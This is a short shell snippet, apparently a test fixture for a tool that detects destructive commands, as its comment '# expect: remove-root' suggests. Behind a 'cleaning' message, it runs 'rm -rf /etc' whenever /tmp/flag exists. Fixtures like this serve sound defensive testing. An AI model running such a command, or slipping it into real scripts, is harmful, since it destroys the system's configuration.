# expect: remove-root
if [ -f /tmp/flag ]; then
  echo cleaning
  rm -rf /etc
fi
